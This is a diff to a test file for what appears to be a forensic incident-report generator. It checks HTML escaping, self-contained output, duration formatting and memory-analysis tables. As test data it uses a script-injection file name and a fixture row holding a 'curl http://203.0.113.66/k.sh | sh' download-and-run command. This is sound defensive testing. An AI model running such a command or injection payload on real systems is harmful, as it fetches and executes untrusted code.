@@ -89,7 +89,12 @@ def case_input(result: ExaminationResult, **changes: Any) -> CaseReportInput:
 def report(examined: tuple[PlantedTree, ExaminationResult]) -> dict[str, str]:
     rendered = render_report(case_input(examined[1]))
     assert set(rendered) == {"report.html", "report.md", "report.json"}
-    return {name: body.decode() for name, body in rendered.items()}
+    return {name: visible(body.decode()) for name, body in rendered.items()}
+
+
+def visible(html: str) -> str:
+    """The HTML without its <wbr> break opportunities (ids and paths wrap between their parts)."""
+    return html.replace("<wbr>", "")
 
 
 def test_report_lists_every_planted_file_as_suspicious(
@@ -133,7 +138,7 @@ def test_hostile_file_names_are_escaped_in_html_and_markdown(examined: tuple[Pla
     rendered = render_report(
         case_input(result, findings=[*result.findings, finding], timeline=[*result.entries, hostile])
     )
-    html, markdown = rendered["report.html"].decode(), rendered["report.md"].decode()
+    html, markdown = visible(rendered["report.html"].decode()), rendered["report.md"].decode()
     for text in (html, markdown):
         assert "<script" not in text
         assert "&lt;script&gt;alert(1)&lt;/script&gt;.php" in text
@@ -147,7 +152,8 @@ def test_html_report_is_self_contained(report: dict[str, str]) -> None:
     assert "<script" not in html
     assert "<link" not in html
     assert "@import" not in html and "url(" not in html
-    assert re.search(r"\s(src|href)\s*=", html) is None
+    # Links only within the page (narrative steps to their findings), never to anything outside it.
+    assert re.search(r"\s(src|href)\s*=\s*\"(?!#)", html) is None
     assert "<style>" in html and "<svg" in html
 
 
@@ -191,7 +197,8 @@ def test_case_summary_stages_evidence_and_notes_are_in_every_format(report: dict
         assert "i-0abc12345def67890" in text and "111122223333" in text and "eu-west-1" in text
         assert "a" * 64 in text
         assert "18.0 MiB" in text
-        assert "0:19:00" in text
+        # Durations are written out (the issue: 0.99 s showed as 0:00:00).
+        assert "19 min 0 s" in text
         assert "memory image is synthetic (local simulation)" in text
     document = json.loads(report["report.json"])
     assert document["case_id"] == CASE_ID
@@ -223,7 +230,7 @@ def test_analysed_memory_shows_each_plugin_and_its_rows(examined: tuple[PlantedT
             {"PID": 4242, "Process": "bash", "Command": "curl http://203.0.113.66/k.sh | sh", "__children": []}
         ]
     }
-    html = render_report(case_input(examined[1], memory=memory, memory_rows=rows))["report.html"].decode()
+    html = visible(render_report(case_input(examined[1], memory=memory, memory_rows=rows))["report.html"].decode())
     assert "analysis/volatility/linux.bash.json" in html
     assert "curl http://203.0.113.66/k.sh | sh" in html
     assert "exit 1: boom" in html
